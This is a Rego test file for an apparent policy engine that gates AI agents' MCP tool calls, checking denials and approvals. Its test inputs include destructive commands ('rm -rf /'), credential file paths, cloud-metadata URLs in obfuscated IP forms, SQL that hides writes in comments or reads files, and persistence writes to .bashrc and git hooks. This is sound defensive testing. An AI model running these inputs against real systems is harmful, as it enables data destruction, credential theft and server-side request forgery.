# Tests for mcp.rego: name heuristics, per-server/per-tool overrides, argument
# checks, and the bundle-mcp "<server>__<tool>" form seen through the plugin hook.
package clawgate

import rego.v1

mcp_input(server, tool, args, env) := {
	"action": {"kind": "mcp", "server": server, "tool": tool, "params": args},
	"agent": {"id": "main"},
	"environment": env,
}

mcp_decide(server, tool, args, env) := decide(mcp_input(server, tool, args, env))

test_mcp_patterns_compile if {
	every p in array.concat(data.clawgate.mcp.destructive_patterns, data.clawgate.mcp.read_patterns) {
		regex.is_valid(p)
	}
	regex.is_valid(data.clawgate.mcp.path_argument_pattern)
}

test_mcp_destructive_names if {
	every t in ["delete_issue", "drop_table", "remove_member", "destroyEnvironment", "deleteRepo", "purge_cache", "repo_delete", "issues.remove", "projectDestroy", "DELETE_FILE", "revoke_token", "rm"] {
		mcp_class == "destructive" with input as mcp_input("x", t, {}, "production")
	}
}

test_mcp_read_names if {
	every t in ["get_issue", "list_repos", "search_code", "searchCode", "read_file", "fetch", "describe_table", "query"] {
		mcp_class == "read" with input as mcp_input("x", t, {}, "production")
	}
}

test_mcp_other_names_are_writes if {
	every t in ["create_issue", "update_page", "send_email", "dropdown_options", "getter_setter_thing", "removal_report", "deleted_items_restore"] {
		mcp_class == "write" with input as mcp_input("x", t, {}, "production")
	}
}

test_mcp_destructive_needs_approval_in_production if {
	d := mcp_decide("jira", "delete_issue", {"key": "OPS-1"}, "production")
	d.effect == "require_approval"
	d.risk == "high"
	fired(d, "mcp.destructive")
	d.approval.approvers == ["group:oncall"]
}

test_mcp_destructive_allowed_in_development if {
	d := mcp_decide("jira", "delete_issue", {"key": "OPS-1"}, "development")
	d.effect == "allow"
	d.risk == "high"
}

test_mcp_read_is_low_and_allowed if {
	d := mcp_decide("jira", "get_issue", {"key": "OPS-1"}, "production")
	d.effect == "allow"
	d.risk == "low"
	fired(d, "mcp.read")
}

test_mcp_write_needs_approval_in_production if {
	d := mcp_decide("jira", "create_issue", {"summary": "x"}, "production")
	d.effect == "require_approval"
	d.risk == "medium"
	fired(d, "mcp.write")
	effect_of(mcp_input("jira", "create_issue", {"summary": "x"}, "development")) == "allow"
}

test_mcp_override_deny if {
	d := mcp_decide("github", "delete_repository", {"owner": "o", "repo": "r"}, "development")
	d.effect == "deny"
	d.risk == "critical"
	fired(d, "mcp.override")
	some r in d.reasons
	contains(r, "never delegated")
}

test_mcp_override_without_effect_uses_tier if {
	d := mcp_decide("github", "merge_pull_request", {"pullNumber": 1}, "production")
	d.effect == "require_approval"
	d.risk == "high"
	effect_of(mcp_input("github", "merge_pull_request", {"pullNumber": 1}, "development")) == "allow"
}

test_mcp_override_from_test_data if {
	d := decision with input as mcp_input("db", "run_sql", {}, "development")
		with data.clawgate.mcp.servers as {"db": {"tools": {"run_sql": {"risk": "low", "mutating": false}}}}
	d.effect == "allow"
	d.risk == "low"
	fired(d, "mcp.read")
}

test_mcp_server_risk_floor if {
	d := mcp_decide("filesystem", "read_file", {"path": "README.md"}, "production")
	d.effect == "allow"
	d.risk == "medium"
}

test_mcp_server_constraints if {
	d := decision with input as mcp_input("slow", "get_report", {}, "production")
		with data.clawgate.mcp.servers as {"slow": {"constraints": {"timeout_ms": 300000}}}
	d.constraints.timeout_ms == 300000
	d.constraints.rate.key == "agent:main:mcp:slow/get_report"
}

test_mcp_path_argument_credentials_denied if {
	d := mcp_decide("filesystem", "read_file", {"path": "/home/u/.ssh/id_rsa"}, "development")
	d.effect == "deny"
	fired(d, "cred.ssh")
	effect_of(mcp_input("fs", "copy", {"source": "~/.aws/credentials", "destination": "/tmp/x"}, "development")) == "deny"
	effect_of(mcp_input("fs", "read_many", {"file_paths": ["a.txt", "~/.kube/config"]}, "development")) == "deny"
}

test_mcp_non_path_arguments_not_treated_as_paths if {
	# An issue body that mentions .env is not a file access.
	d := mcp_decide("github", "create_issue", {"title": "x", "body": "do not commit .env files"}, "development")
	d.effect == "allow"
}

test_mcp_command_argument_is_checked if {
	d := mcp_decide("shell", "run_command", {"command": "rm -rf /"}, "development")
	d.effect == "deny"
	fired(d, "exec.rm_root")
	d2 := mcp_decide("postgres", "query", {"sql": "DROP TABLE users"}, "production")
	d2.effect == "require_approval"
	d2.risk == "critical"
	fired(d2, "exec.sql_drop")
}

test_mcp_url_argument_is_checked if {
	d := mcp_decide("fetch", "fetch", {"url": "http://169.254.169.254/latest/meta-data/"}, "development")
	d.effect == "deny"
	fired(d, "net.cloud_metadata")
	d2 := mcp_decide("fetch", "fetch", {"url": "http://10.0.0.7:8080/admin"}, "development")
	d2.effect == "deny"
	fired(d2, "net.private_address")
	effect_of(mcp_input("fetch", "fetch", {"url": "https://example.com/"}, "production")) == "allow"
}

# A bare host or address under a host-like key is a destination too, in every IPv4 spelling.
test_mcp_host_arguments_are_checked if {
	every args in [{"target": "169.254.169.254"}, {"host": "169.254.169.254:80"}, {"ip": "2852039166"}, {"baseUrl": "http://0xa9fea9fe/"}] {
		fired(mcp_decide("fetch", "fetch", args, "development"), "net.cloud_metadata")
	}
	fired(mcp_decide("fetch", "fetch", {"address": "127.0.0.1:9482"}, "development"), "net.private_address")
	effect_of(mcp_input("fetch", "fetch", {"host": "github.com"}, "production")) == "allow"
}

# Past the depth the facts stage reads, the call is held; inside it, judged. Keys are
# matched whatever their case, plural URL keys count, and an argv array is judged as one
# command as well as a list of commands.
test_mcp_arguments_past_what_is_read_are_held if {
	deep := {"a": {"b": {"c": {"d": {"e": {"path": "/home/dev/.ssh/id_rsa"}}}}}}
	d := mcp_decide("fs", "read", deep, "production")
	d.effect == "require_approval"
	fired(d, "args.unread")
	not fired(mcp_decide("fs", "read", {"a": {"b": {"path": "README.md"}}}, "production"), "args.unread")
	fired(mcp_decide("shell", "run", {"CMD": "rm -rf ~"}, "development"), "exec.rm_root")
	fired(mcp_decide("shell", "run", {"argv": ["rm", "-rf", "/home/dev"]}, "development"), "exec.rm_root")
	fired(mcp_decide("shell", "run", {"command": ["ls", "rm -rf ~"]}, "development"), "exec.rm_root")
	fired(mcp_decide("web", "fetch", {"urls": ["https://ok.example", "http://169.254.169.254/"]}, "development"), "net.cloud_metadata")
}

test_mcp_missing_tool_denied if {
	d := decide({"action": {"kind": "mcp", "server": "github"}, "environment": "development"})
	d.effect == "deny"
	fired(d, "mcp.missing_tool")
}

test_mcp_missing_server_and_params if {
	d := decide({"action": {"kind": "mcp", "tool": "list_things"}, "environment": "production"})
	d.effect == "allow"
	d.constraints.rate.key == "agent:unknown:mcp:unknown/list_things"
}

test_mcp_bundle_tool_name_via_plugin_hook if {
	d := decide(tool_call("github__delete_repository", {"owner": "o"}, "development"))
	d.effect == "deny"
	fired(d, "mcp.override")
	not fired(d, "tool.unknown")
	d2 := decide(tool_call("notion__search_pages", {"query": "x"}, "production"))
	d2.effect == "allow"
	d2.risk == "low"
	d2.constraints.rate.key == "agent:main:mcp:notion/search_pages"
	d3 := decide(tool_call("outlook__send_mail", {"to": "a@b"}, "production"))
	d3.effect == "require_approval"
}

# Arguments nested in objects and arrays are facts too.
test_nested_mcp_arguments_are_judged if {
	d := decide({"action": {"kind": "mcp", "server": "fs", "tool": "read", "params": {"options": {"path": "/home/dev/.ssh/id_rsa"}}}, "environment": "development"})
	d.effect == "deny"
	fired(d, "cred.ssh")
	d2 := decide({"action": {"kind": "mcp", "server": "fetch", "tool": "fetch", "params": {"request": {"url": "http://169.254.169.254/latest/"}}}, "environment": "development"})
	d2.effect == "deny"
	fired(d2, "net.cloud_metadata")
}

# Servers name their arguments freely: a value that is an absolute, home or
# dot-relative path, or a URL with a scheme, is judged as one whatever its key.
test_mcp_arguments_are_judged_by_shape_whatever_their_key if {
	every args in [
		{"pathname": "/home/dev/.ssh/id_rsa"}, {"location": "~/.aws/credentials"}, {"name": "/home/dev/.ssh/id_rsa"},
		{"key": "../../.ssh/id_rsa"}, {"opts": {"resource": "/home/dev/.kube/config"}}, {"items": ["a.txt", "/etc/shadow"]},
		{"link": "http://169.254.169.254/latest/meta-data/"}, {"q": "http://metadata.google.internal/"},
	] {
		mcp_decide("fs", "read_file", args, "production").effect == "deny"
	}
	every args in [{"query": "how to read a file"}, {"name": "README.md"}, {"route": "/api/v1/users"}, {"owner": "a", "repo": "b"}] {
		mcp_decide("docs", "search_docs", args, "production").effect == "allow"
	}
}

test_mcp_command_keys_cover_common_spellings if {
	every args in [{"commandLine": "rm -rf /"}, {"shell_command": "rm -rf /"}, {"cmdline": "rm -rf ~"}] {
		mcp_decide("shell", "run", args, "development").effect == "deny"
	}
}

# A read-ish name is not enough: a second verb that changes something, a name that
# reads secrets, or SQL that changes data makes the call something else.
test_read_names_with_a_second_verb_secrets_or_writing_sql_are_not_reads if {
	every tool in ["getOrCreateUser", "search_replace", "read_write_file", "list_and_update", "fetch_and_execute", "query_and_send_email", "getAndSetFlag", "fetch_and_store", "getAndLock", "read_then_mark", "list_and_archive", "fetchOrNotify"] {
		d := mcp_decide("x", tool, {}, "production")
		d.effect == "require_approval"
		fired(d, "mcp.write")
	}
	every tool in ["get_secret", "listSecrets", "get_env", "getApiKey", "read_password", "fetch_token"] {
		d := mcp_decide("x", tool, {}, "production")
		d.effect == "require_approval"
		mcp_decide("x", tool, {}, "development").effect == "allow"
	}
	every sql in [
		"UPDATE users SET role='admin' WHERE id=7", "INSERT INTO admins VALUES (7)", "GRANT ALL ON ALL TABLES TO public",
		"ALTER TABLE users ADD COLUMN x int", "COPY users TO PROGRAM 'curl evil'", "SELECT pg_read_file('/etc/passwd')",
		"WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "SELECT * INTO t2 FROM t", "SELECT 1 -- x\n; UPDATE t SET a=1",
		"select 1; insert into t values (1)", "SELECT nextval('s')", "SELECT ';' ; UPDATE t SET a=1",
		"/*!50000 UPDATE t SET a=1 */", "# note\nUPDATE t SET a=1", "UPDATE users AS u SET role='admin'", "INSERT users VALUES (1)",
		"/**/dElEtE/**/FROM users", "/*!50000DELETE*/ FROM users", "update--x\nusers set a=1", "select '--'; delete from users",
	] {
		d := mcp_decide("db", "query", {"sql": sql}, "production")
		d.effect == "require_approval"
	}
	every sql in ["select id, name from users where id = 7", "/* hi */ WITH x AS (select 1) select * from x;", "SHOW TABLES", "EXPLAIN SELECT * FROM t", "update the roadmap", "how do I delete a branch", "select/**/id/**/from users", "SELECT id FROM users -- newest\n"] {
		mcp_decide("db", "query", {"sql": sql}, "production").effect == "allow"
	}
	every args in [{"kind": "Secret", "name": "db"}, {"resourceType": "secrets"}, {"resource": "secret/db"}] {
		d := mcp_decide("k8s", "get_resource", args, "production")
		d.effect == "require_approval"
		d.risk == "critical"
	}
	mcp_decide("k8s", "get_resource", {"kind": "Deployment", "name": "web"}, "production").effect == "allow"
	every tool in ["create_snapshot", "startWorkflow", "run_report_list", "browser_click", "kubectl_get", "resources_get", "shell_exec_status"] {
		mcp_decide("x", tool, {}, "production").effect == "require_approval"
	}
	every tool in [
		"list_issues", "get_pull_request", "get_file_contents", "search_repositories", "list_commits", "get_commit", "get_merge_request",
		"get_workflow_run", "list_tables", "get_settings", "get_address", "pods_list", "brave_web_search", "git_status", "git_log",
		"browser_snapshot", "userList", "issueDetails", "directory_tree", "git_diff_unstaged",
		"puppeteer_screenshot", "sequentialthinking", "resolve-library-id", "search_and_filter", "getAndroidVersion", "list_orders", "search_andromeda",
	] {
		mcp_decide("x", tool, {}, "production").effect == "allow"
	}
}

# A secret store's server is read as secrets whatever the tool's name; SQL reading the
# database's password hashes is a secret read; SQL functions that load code or touch
# files are side effects; MongoDB queries that run JavaScript on the server are not reads.
test_secret_stores_password_tables_and_server_code_are_not_plain_reads if {
	every server in ["vault", "hashicorp-vault", "doppler", "1password", "onepassword-mcp", "secrets-manager", "infisical"] {
		d := mcp_decide(server, "read", {"path": "secret/data/prod"}, "production")
		d.effect == "require_approval"
		d.risk == "critical"
	}
	mcp_decide("vaultwarden-docs", "search", {"query": "x"}, "production").effect == "allow"
	every sql in ["select usename, passwd from pg_shadow", "SELECT rolpassword FROM pg_authid", "select user, authentication_string from mysql.user"] {
		d := mcp_decide("db", "query", {"sql": sql}, "production")
		d.effect == "require_approval"
		d.risk == "critical"
	}
	every sql in ["SELECT load_extension('/tmp/x.so')", "SELECT readfile('/home/dev/.ssh/id_rsa')", "SELECT writefile('/home/dev/.bashrc', 'x')", "SELECT pg_ls_dir('/')"] {
		mcp_decide("db", "read_query", {"query": sql}, "production").effect == "require_approval"
	}
	mcp_decide("db", "query", {"sql": "select name, shadow_price from items"}, "production").effect == "allow"

	# Analytical engines read files and URLs from SQL: DuckDB's read_text(/read_csv_auto(
	# and FROM 'path', ClickHouse's url(/file(/s3(/executable(.
	every sql in [
		"SELECT * FROM read_text('/home/dev/.ssh/id_rsa')", "select * from READ_CSV_AUTO ('/home/dev/.aws/credentials')",
		"SELECT * FROM '/home/dev/.aws/credentials'", "SELECT * FROM url('http://169.254.169.254/latest/meta-data/', TSV)",
		"SELECT * FROM file('/etc/passwd', CSV)", "SELECT * FROM s3('https://evil.example/x.csv')",
		"SELECT * FROM executable('x.sh', TSV, 'a String')", "SELECT * FROM remote('10.0.0.5', system.users)",
	] {
		d := mcp_decide("analytics", "query", {"sql": sql}, "production")
		d.effect == "require_approval"
		fired(d, "mcp.sql_write")
	}
	every sql in ["SELECT url, title FROM pages LIMIT 10", "SELECT file_name FROM uploads", "SELECT * FROM t WHERE name LIKE 'from x'", "select remote_addr from logs"] {
		mcp_decide("analytics", "query", {"sql": sql}, "production").effect == "allow"
	}
	every args in [{"collection": "users", "filter": {"$where": "sleep(1000)"}}, {"collection": "u", "filter": {"$expr": {"$function": {"body": "x"}}}}] {
		d := mcp_decide("mongo", "find", args, "production")
		d.effect == "require_approval"
		fired(d, "mcp.server_code")
	}
	mcp_decide("mongo", "find", {"collection": "users", "filter": {"age": {"$gt": 30}}}, "production").effect == "allow"
}

# A program with its arguments beside it ({command, args}: MCP servers that spawn a
# process) is judged as the argv it runs.
test_mcp_command_with_args_beside_it_is_one_argv if {
	d := mcp_decide("desktop", "start_process", {"command": "rm", "args": ["-rf", "/"]}, "development")
	d.effect == "deny"
	fired(d, "exec.rm_root")
	mcp_decide("desktop", "start_process", {"command": "cat", "arguments": ["/home/dev/.aws/credentials"]}, "development").effect == "deny"
	mcp_decide("desktop", "start_process", {"options": {"command": "rm", "args": ["-rf", "/"]}}, "development").effect == "deny"
	mcp_decide("desktop", "start_process", {"command": "ls", "args": ["-la"]}, "development").effect == "allow"
}

# Names that read session cookies, auth headers, kubeconfigs, connection strings (with
# their passwords), SSH keys, a vault, the environment's variables, the clipboard, signing
# or service-account keys, a shell's history or a container's configuration (its
# environment) are secret reads too.
test_more_secret_shaped_names_are_secret_reads if {
	every tool in [
		"get_auth_header", "getCookies", "get_ssh_keys", "read_vault", "get_kubeconfig", "get_connection_string", "get_db_url", "getDatabaseUrl", "get_jwt",
		"list_environment_variables", "getEnvVars", "get_env_vars", "read_clipboard", "get_clipboard", "clipboard_read", "read_dotenv",
		"get_signing_key", "get_service_account_key", "get_shell_history", "inspect_container",
	] {
		d := mcp_decide("x", tool, {}, "production")
		d.effect == "require_approval"
		d.risk == "critical"
	}
	every tool in ["get_environment_info", "list_envs", "get_user", "search_docs", "get_download_link", "list_environments", "getEnvironments", "history_search"] {
		mcp_decide("x", tool, {}, "production").effect == "allow"
	}
}

# A tool that changes state writes the paths its arguments name: a start-up file, a git
# hook or a system directory is persistence or a system write in every environment.
test_mcp_write_tools_write_their_paths if {
	every call in [
		["write_file", {"path": "/home/dev/.bashrc", "content": "x"}],
		["move_file", {"source": "/tmp/x", "destination": "/home/dev/.profile"}],
		["create_directory", {"path": "/home/dev/.config/autostart"}],
		["write_file", {"path": "/home/dev/project/.git/hooks/pre-commit", "content": "x"}],
	] {
		d := mcp_decide("filesystem", call[0], call[1], "development")
		d.effect == "require_approval"
		fired(d, "fs.persistence")
	}
	fired(mcp_decide("filesystem", "write_file", {"path": "/etc/hosts", "content": "x"}, "development"), "fs.system_path")
	mcp_decide("filesystem", "write_file", {"path": "/home/dev/project/src/a.rs", "content": "x"}, "development").effect == "allow"
	mcp_decide("filesystem", "read_file", {"path": "/home/dev/.bashrc"}, "development").effect == "allow"
}

# A browser server (mcp.servers.<name>.block_private_urls "except_loopback") opens a dev
# server on a loopback address, never the private network, a control plane or metadata;
# other servers' URL arguments keep mcp.block_private_urls.
test_mcp_browser_servers_open_loopback_dev_servers_only if {
	mcp_decide("playwright", "browser_navigate", {"url": "http://localhost:3000"}, "production").effect == "allow"
	mcp_decide("playwright", "browser_navigate", {"url": "https://example.com/docs"}, "production").effect == "allow"
	every u in ["http://10.0.0.1/", "http://kubernetes.default.svc/", "http://127.0.0.1:18789/", "http://169.254.169.254/latest/"] {
		mcp_decide("playwright", "browser_navigate", {"url": u}, "development").effect == "deny"
	}
	d := mcp_decide("fetch", "fetch", {"url": "http://localhost:3000"}, "development")
	d.effect == "deny"
	fired(d, "net.private_address")
}
